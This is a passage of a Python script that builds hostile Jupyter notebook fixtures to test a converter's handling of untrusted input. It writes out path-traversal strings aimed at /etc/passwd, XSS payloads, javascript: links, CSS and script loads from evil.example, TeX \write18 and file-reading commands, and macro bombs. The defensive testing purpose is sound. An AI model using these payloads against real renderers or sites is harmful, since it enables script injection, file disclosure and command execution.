        "%2e%2e%2foutside.png",
    ]
    picture = {"image/png": text_of(bar_png(30, 20, 3))}
    text = "\n\n".join(
        f"![{index}](<attachment:{name}>)" for index, name in enumerate(names) if "\0" not in name and "<" not in name
    )
    hostile(
        "h65_attachment_names",
        ordinary(text_cell(text, attachments={name: picture for name in names})),
        text=["after it"],
        not_html=["<img onerror"],
    )
    paths = [
        "../outside.png", "images/../../outside.png", "/etc/passwd", "file:///etc/passwd",
        "file://localhost/etc/passwd", "//etc/passwd", "images/%2e%2e/%2e%2e/outside.png", "..%2foutside.png",
        "..\\outside.png", "./.././../../../../../../etc/passwd", "FILE:///etc/passwd", "\\\\server\\share\\x.png",
        "~/x.png", "$HOME/x.png", "/dev/zero", "/dev/stdin", "/proc/self/environ",
    ]
    text = "\n\n".join(
        [f"![p{index}](<{path}>)" for index, path in enumerate(paths)] + [f'<img src="{path}">' for path in paths]
    )
    hostile(
        "h66_image_paths", ordinary(text_cell(text)), text=["after it"], images_max=0, warnings=["refused-image"],
        not_html=['src="file:', 'src="/etc', 'src="/dev'],
    )
    html = "".join(f'<p><img src="{path}"></p>' for path in paths)
    hostile(
        "h67_image_paths_in_outputs",
        ordinary(
            code_cell(
                "html",
                [{"output_type": "display_data", "metadata": {}, "data": {"text/html": html, "text/plain": "x"}}],
            )
        ),
        text=["after it"],
        images_max=0,
        not_html=['src="file:', 'src="/etc', 'src="/dev'],
    )
    hostile(
        "h68_image_is_a_folder",
        ordinary(
            text_cell(
                "![a](images) ![b](.) ![c](./) ![d](h01_truncated.ipynb) ![e]() ![f](#here) ![g](?x) ![h](images/inside.png)"
            )
        ),
        text=["after it"],
    )


def hostile_typst():
    """Code for the typesetter in every field. It must come out as text, or not at all; never run."""
    text = "\n\n".join(TYPST)
    hostile(
        "h69_typst_markdown",
        ordinary(
            text_cell(text), text_cell("\n".join(f"- {line}" for line in TYPST)),
            text_cell("\n".join(f"# {line}" for line in TYPST)),
        ),
        text=TYPST_TEXT,
    )
    table = "| a | b |\n|---|---|\n" + "\n".join(
        "| " + line.replace("|", "\\|") + " | `" + line.replace("`", "") + "` |" for line in TYPST
    )
    links = "\n\n".join(
        f'[{index}](<https://example.com/{line.replace("<", "").replace(">", "")}>) ![{line.replace("[", "").replace("]", "")}](none{index}.png "{line.replace(chr(34), "")}")'
        for index, line in enumerate(TYPST)
    )
    fences = "\n\n".join(f"~~~{line.replace('~', '')}\n{line}\n~~~" for line in TYPST)
    spans = "\n\n".join(f"`` {line} `` **{line}** [^{index}]\n\n[^{index}]: {line}" for index, line in enumerate(TYPST))
    hostile(
        "h70_typst_in_constructs",
        ordinary(text_cell(table), text_cell(links), text_cell(fences), text_cell(spans)),
        text=["panic()"],
    )
    hostile("h71_typst_code", ordinary(code_cell(text), *[code_cell(line) for line in TYPST]), text=TYPST_TEXT)
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "stream", "name": "stderr", "text": text},
    ]
    outputs += [
        {"output_type": "display_data", "metadata": {}, "data": {mime: text}}
        for mime in ("text/plain", "text/markdown", "text/latex", "application/x-" + "]#panic()[")
    ]
    outputs += [
        {"output_type": "display_data", "metadata": {}, "data": {"application/json": {line: [line] for line in TYPST}}}
    ]
    hostile("h72_typst_outputs", ordinary(code_cell("x", outputs)), text=TYPST_TEXT)
    escaped = [line.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;") for line in TYPST]
    rows = "".join(f"<tr><td>{line}</td><th>{line}</th></tr>" for line in escaped)
    html = (
        f"<table>{rows}</table><ul>"
        + "".join(
            f'<li title="{line}" style="color: {line}"><b>{line}</b> <a href="{line}">x</a> <code>{line}</code></li>'
            for line in escaped
        )
        + f"</ul><pre>{escaped[0]}\n{escaped[5]}</pre>"
    )
    hostile(
        "h73_typst_html",
        ordinary(
            code_cell("x", [{"output_type": "display_data", "metadata": {}, "data": {"text/html": html}}]),
            text_cell(html),
        ),
        text=TYPST_TEXT,
    )
    names = ordinary(
        text_cell(
            "![x](<attachment:]#panic()[.png>)",
            attachments={"]#panic()[.png": {"image/png": text_of(bar_png(30, 20, 3))}},
            metadata={"tags": TYPST},
        ),
        code_cell(
            "x",
            [
                {"output_type": "error", "ename": line, "evalue": line, "traceback": [line, f"\x1b[31m{line}\x1b[0m"]}
                for line in TYPST
            ],
            metadata={"tags": TYPST, "name": TYPST[5]},
        ),
    )
    names["metadata"] = {
        "title": text,
        "authors": [{"name": line} for line in TYPST],
        "date": '" + panic() + "',
        "kernelspec": {"display_name": TYPST[5], "language": TYPST[8], "name": TYPST[9]},
        "language_info": {
            "name": TYPST[14],
            "file_extension": TYPST[5],
            "pygments_lexer": TYPST[13],
            "mimetype": TYPST[8],
        },
    }
    hostile("h74_typst_names", names, text=["panic()"], warnings=["error"])
    raw = [
        {"cell_type": "raw", "id": f"raw-{index}", "metadata": {"raw_mimetype": mime}, "source": text}
        for index, mime in enumerate(
            ["", "text/html", "text/latex", "text/x-typst", "text/typst", "text/markdown", "]#panic()["]
        )
    ]
    colours = (
        "".join(f"\x1b[3{index % 8}m{line}\x1b[0m\n" for index, line in enumerate(TYPST))
        + "\x1b[38;5;#panic()m \x1b]8;;]#panic()[\x1b\\x\x1b]8;;\x1b\\"
    )
    hostile(
        "h75_typst_raw_and_ansi",
        ordinary(*raw, code_cell("x", [{"output_type": "stream", "name": "stdout", "text": colours}])),
        text=TYPST_TEXT,
    )
    inside = "\n\n".join(f"$ {line} $\n\n$${line}$$\n\n$\\text{{{line}}}$" for line in TYPST if "$" not in line)
    hostile("h76_typst_formulas", ordinary(text_cell(inside)), text=["after it"])


def hostile_markup():
    """Markdown, HTML and text that is too deep, too wide or wants to run."""
    hostile(
        "h77_html_deep",
        ordinary(
            text_cell("<div>" * 5000 + "deepest"),
            code_cell(
                "x",
                [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": "<b><i><ul><li>" * 600 + "bottom"},
                    }
                ],
            ),
        ),
        text=["after it"],
    )
    hostile(
        "h78_html_tables_deep",
        ordinary(
            code_cell(
                "x",
                [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": "<table><tr><td>" * 700 + "bottom"},
                    }
                ],
            )
        ),
        text=["after it"],
    )
    hostile(
        "h79_quotes_deep",
        ordinary(text_cell(">" * 1000 + " bottom"), text_cell("> " * 500 + "- " * 500 + "bottom")),
        text=["after it"],
    )
    hostile(
        "h80_lists_deep",
        ordinary(
            text_cell("\n".join("  " * level + "- x" for level in range(100))),
            text_cell("- " * 2000 + "x"),
            text_cell("1. " * 1000 + "x"),
        ),
        text=["after it"],
    )
    hostile(
        "h81_markdown_repeats",
        ordinary(
            *[
                text_cell(sign * (5000 // len(sign)))
                for sign in ("[", "![", "*a", "_a ", "`", "<", "a**b", "[a](", "$", "|", "&", "~~a", "\\[", "**x ")
            ]
        ),
        text=["after it"],
    )
    hostile(
        "h82_table_wide",
        ordinary(
            text_cell("|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n|" + "b|" * 300),
            code_cell(
                "x",
                [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": "<table><tr>" + "<td>c</td>" * 300 + "</tr></table>"},
                    }
                ],
            ),
        ),
        text=["after it"],
    )
    spans = '<table><tr><td colspan="1000000000" rowspan="1000000000">wide</td><td colspan="-1" rowspan="x">b</td></tr><tr><td rowspan="0" colspan="0">c</td></tr></table><ol start="99999999999999999999"><li>many</li></ol><img width="999999999" height="-1" src="images/inside.png"><p style="font-size: 99999pt; margin: -9999px; width: 0; color: notacolour; line-height: 0">big words</p><font size="9999">font</font>'
    hostile(
        "h83_html_numbers",
        ordinary(
            code_cell("x", [{"output_type": "display_data", "metadata": {}, "data": {"text/html": spans}}]),
            text_cell(spans),
            text_cell("999999999. ninth\n1000000000. tenth"),
            text_cell("| a |\n|---|\n" + "| b |" * 200),
        ),
        text=["after it"],
    )
    addresses = [
        "javascript:evil()", "JaVaScRiPt:evil()", " java\tscript:evil()", "vbscript:evil()",
        "data:text/html,<script>evil()</script>", "&#106;avascript:evil()", "javascript&colon;evil()",
        "\x01javascript:evil()", "file:///etc/passwd",
    ]
    text = "\n\n".join(
        [f"[click {index}](<{address}>)" for index, address in enumerate(addresses) if ">" not in address]
        + [f'<a href="{address}">anchor {index}</a>' for index, address in enumerate(addresses)]
        + ["<javascript:evil()>", "[ref]\n\n[ref]: javascript:evil()"]
    )
    hostile(
        "h84_links_that_run",
        ordinary(
            text_cell(text),
            code_cell("x", [{"output_type": "display_data", "metadata": {}, "data": {"text/html": text}}]),
        ),
        text=["click 0", "anchor 3", "after it"],
        not_html=['href="javascript:', 'href="vbscript:', 'href="data:text/html'],
    )
    active = (
        '<img src=x onerror="evil()"><b onclick=evil() onmouseover=\'evil()\'>bold</b><iframe src="file:///etc/passwd">frame</iframe><object data="/etc/passwd">object</object><embed src="x">'
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><form action="https://evil.example/"><input name="a" value="field"><button formaction="javascript:evil()">press</button></form>'
        '<script src="https://evil.example/x.js"></script><SCRIPT>evil()</SCRIPT><scr<script>ipt>evil()</script><svg onload="evil()"><script>evil()</script></svg><math><mtext><img src onerror="evil()"></mtext></math><video src="x" onerror="evil()"></video><template><script>evil()</script></template>'
        '</body></html><body onload="evil()"><noscript><p title="</noscript><img src=x onerror=evil()>"></noscript><textarea></textarea><script>evil()</script><![CDATA[<script>evil()</script>]]><!--><script>evil()</script>--><style>*{display:none}</style><plaintext>last'
    )
    tags_gone = [
        "<iframe", "<object", "<embed", "<base ", 'http-equiv="refresh"', "evil.example/x.js", "evil.example/x.css",
        'onerror="evil', 'onload="evil', "onclick=evil", "<script>evil", "{display:none}",
    ]
    hostile(
        "h85_html_active",
        ordinary(
            text_cell(active),
            code_cell("x", [{"output_type": "display_data", "metadata": {}, "data": {"text/html": active}}]),
        ),
        text=["after it"],
        not_html=tags_gone,
    )
    css = '<div style="background: url(https://evil.example/a.png); background-image: url(\'file:///etc/passwd\'); behavior: url(x.htc); width: expression(evil()); position: fixed; top: 0; left: 0; z-index: 99999; display: none">styled words</div><style>@import "https://evil.example/b.css"; body { background: url(file:///etc/passwd) } @font-face { src: url(https://evil.example/c.woff) }</style>'
    hostile(
        "h86_css",
        ordinary(
            text_cell(css),
            code_cell("x", [{"output_type": "display_data", "metadata": {}, "data": {"text/html": css}}]),
        ),
        text=["after it"],
        not_html=["evil.example", "expression(evil", "file:///etc/passwd"],
    )


def hostile_formulas():
    """Formulas that explode, dig or reach out."""
    bombs = [
        r"\def\a{\a\a}\a",
        r"\def\a{\a}\a",
        r"\newcommand{\b}{\c\c}\newcommand{\c}{\b\b}\b",
        "".join(
            rf"\def\x{chr(98 + level)}{{{chr(92)}x{chr(97 + level)}{chr(92)}x{chr(97 + level)}}}" for level in range(25)
        )
        + r"\def\xa{z}\xz",
        r"\newcommand{\d}[1]{\d{#1#1}}\d{x}",
        r"\let\e\e\e",
        r"\csname end\endcsname",
        r"\loop\iftrue\repeat",
    ]
    hostile(
        "h87_math_bombs",
        ordinary(*[text_cell(f"$${bomb}$$") for bomb in bombs], text_cell(r"$\a \b \frac12$")),
        text=["after it"],
    )
    deep = [
        "{" * 10000 + "x" + "}" * 10000, "{" * 2000, r"\frac{1}{" * 500 + "x" + "}" * 500,
        "x^{" * 1000 + "y" + "}" * 1000, r"\sqrt{" * 800 + "z" + "}" * 800, r"\left(" * 800 + r"\right)" * 800,
        r"\begin{matrix}" * 300 + r"\end{matrix}" * 300,
    ]
    hostile("h88_math_deep", ordinary(*[text_cell(f"$${formula}$$") for formula in deep]), text=["after it"])
    reach = [
        r"\href{javascript:evil()}{x}", r"\url{file:///etc/passwd}", r"\includegraphics{/etc/passwd}",
        r"\input{/etc/passwd}", r"\include{/etc/passwd}", r"\openin5=/etc/passwd \read5 to\x \x",
        r"\immediate\write18{id}", r"\require{html}", r"\class{evil}{x}", r"\style{position:fixed}{x}",
        r"\htmlData{a=b}{x}", r"\unicode{x41}", r"\char999999999", r"\rule{99999pt}{99999pt}", r"\hspace{99999in}",
        r"\kern-9999em x", r"\color{#panic()}x", r"\tag{]#panic()[} x", r"\label{<a>} x",
        r"\text{</script><script>evil()</script>}", r"\text{<img src=x onerror=evil()>}", r"\verb|x|", "\\", "&", r"\\",
        "^", "_", "#1", "%", r"\begin{evil}x\end{evil}", r"\begin{align}", r"\end{align}", "\u0000x",
    ]
    hostile(
        "h89_math_reaches_out",
        ordinary(
            *[text_cell(f"$${formula}$$") for formula in reach],
            text_cell("\n\n".join(f"${formula}$" for formula in reach)),
        ),
        text=["after it"],
        not_html=['href="javascript:', "<script>evil()", "<img src=x onerror"],
    )


def hostile_characters():
    """Characters that text should not have."""
    control = (
        "".join(chr(code) for code in range(32))
        + "\x7f\x80\x9b31m\u2028\u2029\ufeff\ufffe\uffff\ufdd0\u202e\u2066\U000e0041\U0010ffff"
    )
    data = {
        "text/plain": control + "plain",
        "text/html": f"<b>{control}</b>",
        "text/markdown": control,
        "text/latex": f"${control}$",
        "image/svg+xml": svg(f"<text>{control}</text>"),
    }
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": control + "kept"},
        {"output_type": "error", "ename": control, "evalue": control, "traceback": [control]},
    ]
    outputs += [{"output_type": "display_data", "metadata": {}, "data": {mime: value}} for mime, value in data.items()]
    book = ordinary(
        text_cell(control + " words"),
        text_cell(f"# {control}\n\n`{control}` [{control}](https://example.com/{control}) ${control}$"),
        code_cell(f'let x = "{control}";', outputs),
        {"cell_type": "raw", "id": "r", "metadata": {}, "source": control},
    )
    book["metadata"] = {**RUST, "title": f"title {control}", "authors": [{"name": control}], "date": control}
    hostile("h90_control_characters", json.dumps(book), text=["after it"], warnings=["error"])
    surrogates = json.dumps(
        ordinary(
            text_cell("lone \ud800 high"),
            text_cell("lone \udc00 low"),
            text_cell("wrong \udc00\ud800 order"),
            code_cell("x", [{"output_type": "stream", "name": "stdout", "text": "end \ud83d"}]),
        )
    )
    hostile("h91_lone_surrogates", surrogates, "either")
    e = "\x1b"
    odd = [
        f"{e}[", f"{e}", f"{e}[999999999C far", f"{e}[999999999;999999999H there", f"{e}[38;5;999m x",
        f"{e}[38;2;999;-1m y", f"{e}[{'1;' * 1500}m z", f"{e}]0;title without end", f"{e}P1$r0m{e}\\",
        f"{e}[999999999b", f"{e}[2147483648A", f"{e}[18446744073709551617m", f"{e}(0lqk{e}(B", "\b" * 500 + "back",
        "\r" * 500 + "line", "a" + "\u0300" * 500, "\x9b31mc1",
    ]
    hostile(
        "h92_escape_sequences",
        json.dumps(
            ordinary(
                code_cell("x", [{"output_type": "stream", "name": "stdout", "text": text + "\n"} for text in odd]),
                code_cell("y", [{"output_type": "error", "ename": "E", "evalue": "v", "traceback": odd}]),
            )
        ),
        text=["after it"],
        warnings=["error"],
    )


def large(folder):
    """What is made only when a test needs it.

    huge_base64.ipynb     an output image/png of 60 MB of base64 that is no picture
    huge_png.ipynb        a PNG of 12,000 × 12,000 pixels that is one (144 million pixels in some 200 kB)
    long_line.ipynb       a stream, a result and a line of code of 1 MB without a space
    many_cells.ipynb      20,000 cells
    many_outputs.ipynb    one cell with 50,000 stream outputs
    long_markdown.ipynb   one paragraph of 2 MB
    symlink.ipynb         names images/link.png, which is a symbolic link to /etc/passwd, and linked/outside.png, where
                          linked is a link to the folder above; both must be refused
    """
    folder.mkdir(parents=True, exist_ok=True)

    def write(name, book):
        (folder / name).write_text(json.dumps(book))

    write("huge_base64.ipynb", with_output({"image/png": "QUJD" * 15_000_000}))
    write("huge_png.ipynb", with_output({"image/png": text_of(png(12000, 12000, lambda y: bytes(12000), 3, PALETTE))}))
    word = "START" + "x" * 500_000 + "MIDDLE" + "y" * 500_000 + "END"
    write(
        "long_line.ipynb",
        ordinary(
            code_cell(f'let x = "{word}";', [{"output_type": "stream", "name": "stdout", "text": word}]),
            text_cell(word),
        ),
    )
    write("many_cells.ipynb", ordinary(*[text_cell(f"cell {index}", id=f"c{index}") for index in range(20000)]))
    write(
        "many_outputs.ipynb",
        ordinary(
            code_cell(
                "x", [{"output_type": "stream", "name": "stdout", "text": f"{index}\n"} for index in range(50000)]
            )
        ),
    )
    write("long_markdown.ipynb", ordinary(text_cell("START " + "word " * 400_000 + "END")))
    inner = folder / "linked-notebook"
    (inner / "images").mkdir(parents=True, exist_ok=True)
    (folder / "outside.png").write_bytes(bar_png(60, 40, 4, 2))
    for link, target in ((inner / "images/link.png", "/etc/passwd"), (inner / "linked", "..")):
        if not link.is_symlink():
            link.symlink_to(target)
    (inner / "symlink.ipynb").write_text(
        json.dumps(ordinary(text_cell("![a](images/link.png) ![b](linked/outside.png)")))
    )


# ------------------------------------------------------------------------------------------------------------- main


def main():
    arguments = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    arguments.add_argument("--check", action="store_true", help="write nothing, say what differs")
    arguments.add_argument("--large", metavar="DIR", type=Path, help="write what is too big or too odd for git")
    arguments = arguments.parse_args()
    if arguments.large:
        return large(arguments.large)
    for make in (
        hostile_files, hostile_types, hostile_pictures, hostile_drawings, hostile_paths, hostile_typst, hostile_markup,
        hostile_formulas, hostile_characters,
    ):
        make()
    save("expected.json", EXPECTED)
    differing = [
        path for path, data in FILES.items() if not (HERE / path).is_file() or (HERE / path).read_bytes() != data
    ]
    strays = [
        path
        for kind in ("notebooks", "hostile")
        for path in (HERE / kind).rglob("*")
        if path.is_file() and str(path.relative_to(HERE)) not in FILES
    ]
    if arguments.check:
        for path in differing + strays:
            print(f"differs: {path}")
        return 1 if differing or strays else 0
    for path, data in FILES.items():
        (HERE / path).parent.mkdir(parents=True, exist_ok=True)
        (HERE / path).write_bytes(data)
    for path in strays:
        print(f"not made by this script: {path}")
    print(f"{len(FILES)} files, {sum(map(len, FILES.values())) / 1000:.0f} kB, {len(differing)} of them changed")


if __name__ == "__main__":
    sys.exit(main())
